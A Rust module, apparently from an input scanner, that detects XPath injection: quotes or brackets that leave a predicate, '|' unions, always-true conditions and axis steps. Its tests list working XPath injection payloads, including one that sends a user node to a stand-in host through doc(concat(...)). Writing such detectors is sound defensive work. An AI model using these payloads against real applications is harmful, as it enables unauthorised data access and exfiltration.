//! XPath: what leaves a string or a predicate and goes on with nodes, and what asks for nodes that it was not meant for.

use super::{Best, Class, contains, is_word, places, trim_start};

/// Bytes of a value that is read, at most.
const LONGEST: usize = 512;

/// Functions (XPath 1.0 section 4, XPath and XQuery Functions 3.1) that a query asks with. Most are SQL's or a language's too: what is in their
/// parentheses decides.
const CALLS: [&[u8]; 32] = [
    b"count",
    b"string-length",
    b"substring",
    b"substring-before",
    b"substring-after",
    b"name",
    b"local-name",
    b"namespace-uri",
    b"starts-with",
    b"ends-with",
    b"contains",
    b"matches",
    b"string",
    b"string-join",
    b"string-to-codepoints",
    b"normalize-space",
    b"translate",
    b"lower-case",
    b"upper-case",
    b"tokenize",
    b"boolean",
    b"number",
    b"sum",
    b"not",
    b"exists",
    b"data",
    b"distinct-values",
    b"doc",
    b"doc-available",
    b"concat",
    b"encode-for-uri",
    b"system-property",
];
/// Those of them that name nothing in other languages, with an argument or without.
const OWN: [&[u8]; 17] = [
    b"position()",
    b"last()",
    b"name()",
    b"local-name(",
    b"node()",
    b"text()",
    b"comment()",
    b"true()",
    b"false()",
    b"string-length(",
    b"starts-with(",
    b"normalize-space(",
    b"namespace-uri(",
    b"count(/",
    b"name(/",
    b"lang('",
    b"string()",
];
/// The axes (XPath 1.0, section 2.2).
const AXES: [&[u8]; 13] = [
    b"ancestor",
    b"ancestor-or-self",
    b"attribute",
    b"child",
    b"descendant",
    b"descendant-or-self",
    b"following",
    b"following-sibling",
    b"namespace",
    b"parent",
    b"preceding",
    b"preceding-sibling",
    b"self",
];

/// `lower`: the value, in lower case.
pub(super) fn judge(lower: &[u8], best: &mut Best) {
    if lower.len() > LONGEST {
        return;
    }
    if memchr::memchr_iter(b'(', lower)
        .take(64)
        .any(|at| CALLS.contains(&&lower[at - name_before(&lower[..at])..at]) && is_path(&lower[at + 1..]))
    {
        best.add(Class::XPath, "xpath-call", 75);
    }
    if leaves(lower) || outside(lower) {
        best.add(Class::XPath, "xpath-left", 80);
    }
    // An axis in a value that leaves a string or a predicate, or is two such steps.
    let axes = places(lower, b"::").take(16).filter(|at| is_axis(lower, *at)).count()
        + [&b"/text()"[..], b"/comment()", b"/node()", b"[position()", b"@*[name()", b"/@*"]
            .iter()
            .filter(|step| contains(lower, step))
            .count();
    let start = trim_start(lower);
    let begins = matches!(start.first(), Some(b'\'' | b'"' | b']' | b')')) || joined(start).is_some();
    if axes >= 2 && !lower.contains(&b' ')
        || axes >= 1 && begins
        || axes >= 1 && contains(lower, b"' or '")
        || alternative(start)
    {
        best.add(Class::XPath, "xpath-axis", 75);
    }
}

/// The length of the name that a text ends with.
fn name_before(text: &[u8]) -> usize {
    let of_name = |byte: &&u8| byte.is_ascii_lowercase() || **byte == b'-';
    text.iter().rev().take(24).take_while(of_name).count()
}

/// Whether `::` at `at` stands between an axis and what it tests: a name, `*`, or `node()`. A program's `Self::Error` stands where no step does.
fn is_axis(text: &[u8], at: usize) -> bool {
    let name = name_before(&text[..at]);
    let axis = &text[at - name..at];
    let before = text[..at - name].last();
    let step = matches!(before, None | Some(b'/' | b'[' | b'(' | b'|' | b'\'' | b'"' | b']' | b'@'));
    let test = &text[at + 2..];
    let node = test.starts_with(b"*") || test.starts_with(b"node()") || test.starts_with(b"text()");
    let name = test.iter().take_while(|byte| is_word(**byte) || **byte == b'-').count();
    let spaced = before == Some(&b' ') && (node || name > 0 && test[name..].starts_with(b"["));
    AXES.contains(&axis)
        && (step && before != Some(&b'(') || spaced || step && node)
        && test.first().is_some_and(|byte| is_word(*byte) || *byte == b'*')
        // `Self::Data>` and `Self::Emoji)` are types and variants.
        && (axis != b"self" || node || before == Some(&b'/'))
}

/// Whether a function's argument is a path: `/*`, `//user[1]`, `/child::node()`, `@*[1]`, or another call of these.
fn is_path(argument: &[u8]) -> bool {
    let mut argument = trim_start(argument);
    for _ in 0..4 {
        let open = argument.iter().take(24).position(|byte| *byte == b'(');
        match open {
            Some(open) if CALLS.contains(&&argument[..open]) => argument = trim_start(&argument[open + 1..]),
            _ => break,
        }
    }
    if argument.starts_with(b"parent::*")
        || argument.starts_with(b"../*")
        || argument.starts_with(b"@*[")
        || argument.starts_with(b"'http") && contains(argument, b"',//")
        || argument.starts_with(b"'http") && contains(argument, b"', //")
    {
        return true;
    }
    if argument.starts_with(b"child::")
        || argument.starts_with(b"self::")
        || argument.starts_with(b"descendant")
    {
        let colon = argument.iter().position(|byte| *byte == b':').unwrap_or(0);
        return is_axis(argument, colon);
    }
    let Some(path) = argument.strip_prefix(b"/") else { return false };
    let deep = path.strip_prefix(b"/");
    let path = deep.unwrap_or(path);
    // `//` begins a comment and `/…/` a regular expression: a name and what ends a step.
    let name =
        path.iter().take_while(|byte| is_word(**byte) || matches!(**byte, b'-' | b':' | b'*' | b'@')).count();
    let next = path.get(name);
    name > 0
        && match next {
            Some(b'[') => deep.is_some() || path.starts_with(b"*"),
            Some(b')' | b',') => deep.is_some() || path.starts_with(b"*") || contains(&path[..name], b"::"),
            Some(b'(') => {
                path[..name].ends_with(b"::node") || matches!(&path[..name], b"comment" | b"text" | b"node")
            }
            Some(b'/') => {
                let rest = &path[..path.iter().position(|byte| *byte == b')').unwrap_or(path.len())];
                deep.is_some()
                    && (contains(path, b"/text()") || contains(path, b"/child::") || is_steps(rest))
                    || path.starts_with(b"*/")
            }
            _ => false,
        }
}

/// Names with single slashes between them, and nothing else.
fn is_steps(path: &[u8]) -> bool {
    path.split(|byte| *byte == b'/').all(|step| {
        !step.is_empty()
            && step.iter().all(|byte| is_word(*byte) || matches!(byte, b'-' | b'*' | b'@' | b'[' | b']'))
    }) && !path.contains(&b'.')
}

/// What stands behind `' or `: a quote, a bracket, or a number, and the word.
fn joined(start: &[u8]) -> Option<&[u8]> {
    let lead = start.iter().take(24).take_while(|byte| is_word(**byte)).count();
    let rest = &start[lead..];
    let rest = rest.strip_prefix(b"'").or_else(|| rest.strip_prefix(b"\"")).unwrap_or(rest);
    let closing = rest.iter().take(4).take_while(|byte| matches!(byte, b')' | b']')).count();
    let rest = &rest[closing..];
    let gap = rest.len() - trim_start(rest).len();
    let word = trim_start(rest);
    let word = word.strip_prefix(b"or").or_else(|| word.strip_prefix(b"and"))?;
    let spaced = gap > 0 || lead == 0 || closing > 0 || start.get(lead).is_some_and(|byte| !is_word(*byte));
    (spaced && word.first().is_some_and(|byte| !is_word(*byte) && *byte != b'-')).then_some(word)
}

/// A quote or a bracket that ends what the value stands in, and another path or a condition on nodes behind it.
fn leaves(lower: &[u8]) -> bool {
    let Some(rest) = joined(trim_start(lower)) else { return false };
    let mut rest = trim_start(rest);
    while let Some(inner) = rest.strip_prefix(b"not(").or_else(|| rest.strip_prefix(b"(")) {
        rest = trim_start(inner);
    }
    let step = rest
        .strip_prefix(b"//")
        .or_else(|| rest.strip_prefix(b"/*"))
        .or_else(|| rest.strip_prefix(b"../"))
        .or_else(|| rest.strip_prefix(b"@*"));
    let path = step.is_some_and(|path| {
        path.is_empty()
            || path.iter().take(64).any(|byte| matches!(byte, b'/' | b'[' | b'=' | b'*' | b'\'' | b'"'))
    });
    let quoted = matches!(lower.iter().find(|byte| !is_word(**byte)), Some(b'\'' | b'"' | b']' | b')'));
    // ' or .='x, ' or @id='1, ' or *[1]
    let attribute = rest.strip_prefix(b"@").is_some_and(|rest| {
        let name = rest.iter().take_while(|byte| is_word(**byte) || **byte == b'-').count();
        name > 0 && trim_start(&rest[name..]).starts_with(b"=")
    });
    let node = rest.starts_with(b".=") || rest.starts_with(b". =") || rest.starts_with(b"*[") || attribute;
    let own = OWN.iter().any(|call| rest.starts_with(call));
    let nodes = [&b"position()"[..], b"last()", b"text()", b"node()", b"comment()", b"name()", b"true()"];
    path || own && quoted
        || quoted && (node || rest.starts_with(b"contains(") || rest.starts_with(b"count("))
        || nodes.iter().any(|call| rest.starts_with(call))
}

/// Another path behind `|`, outside of what the value stood in: `'] | //user | a['`, `x | //*`.
fn outside(lower: &[u8]) -> bool {
    memchr::memchr_iter(b'|', lower).take(16).any(|at| {
        let lead = lower[..at].trim_ascii_end();
        let path = trim_start(&lower[at + 1..]);
        if !path.starts_with(b"/") || path.starts_with(b"///") {
            return false;
        }
        let closed = match lead.last() {
            Some(b']') => true,
            // x'|//a, x')|//a: the quote closes what was open before the value.
            Some(b'\'' | b'"' | b')') => {
                let quotes = lead.iter().filter(|byte| matches!(byte, b'\'' | b'"')).count();
                let sign = |byte: &u8| matches!(byte, b'\'' | b'"' | b')' | b']' | b' ');
                quotes % 2 == 1 && lead.len() <= 24 && lead.iter().all(|byte| is_word(*byte) || sign(byte))
            }
            _ => false,
        };
        let any = [&b"//*"[..], b"//@*", b"//text()", b"//node()", b"/*/", b"/*["]
            .iter()
            .any(|start| path.starts_with(start));
        closed || any && lead.iter().all(|byte| is_word(*byte)) && !lead.is_empty()
    })
}

/// A path with `*` steps, or with a condition that always holds, as a whole value.
fn alternative(start: &[u8]) -> bool {
    let path = start.starts_with(b"/*[") || start.starts_with(b"//") || start.starts_with(b"/*/");
    let whole = start.trim_ascii_end();
    path && (contains(start, b"]/*[")
        || contains(start, b"/text()|//")
        || contains(start, b"' or '1'='1")
        || contains(start, b"[1=1]")
        || contains(start, b"[true()]"))
        || matches!(whole, b"//*" | b"//@*" | b"//node()" | b"//text()" | b"//*/*" | b"/descendant::node()")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(text: &str) -> bool {
        let mut best = Best::default();
        judge(text.as_bytes(), &mut best);
        best.certain()
    }

    #[test]
    fn what_leaves_a_predicate_is_found() {
        for attack in [
            "' or //user/name[2]='a' or '",
            "' or contains(name,'a') or '",
            "' or starts-with(name,'a') or '",
            "'] | //password | a['",
            "1] | //* | //*[1",
            "')] | //q | //*[contains(a,'",
            "substring(//user[1],2,1)",
            "string-length(//u[position()=1]/child::node()[position()=2])",
            "doc(concat('http://e.example/',//user[1]))",
            "' or @*[name()='x'] or '",
            "']/parent::*/child::node()['",
            "3 or count(parent::*[position()=1])=0",
            "//user[name/text()='x' or '1'='1']",
            "/*[1]/*[2]/text()|//role",
            "' or position()=2 or '",
            "'or true() or'",
            "x\" or not(false()) or \"",
            "' or @role='admin",
            "') or .='a",
            "1 or last()=1",
            "'|//*|'",
            "x') | //a/b | ('",
            "a | //@*",
            "//*",
            "string-length(name(/*[1]))=3",
            "' and lower-case(//user[1])='a",
            "'/ancestor-or-self::*['",
            "sum(//account/amount)",
        ] {
            assert!(found(attack), "{attack}");
        }
    }

    #[test]
    fn code_paths_and_prose_pass() {
        for benign in [
            "count(//comment\nx)",
            "str.contains(/a|b/)",
            "substring(0, 5)",
            "contains(name, 'a') or b",
            "it's here or contains(the rest)",
            "a | /b/c",
            "[a] | [b]",
            "| [x](//example.com) | /y |",
            "https://example.com//a[1]",
            "std::self::x",
            "//div[@class='x']",
            "concat('a', 'b')",
            "/users/{id} or /groups/{id}",
            "Result<Self::Value, Self::Error>",
            "\"text\" => Ok(Some(Self::Text)),",
            "x or name(y)",
            "'a' | //b",
            "it's | // a comment",
            "not(//is this)",
            "parent::child::x()",
        ] {
            assert!(!found(benign), "{benign}");
        }
    }
}
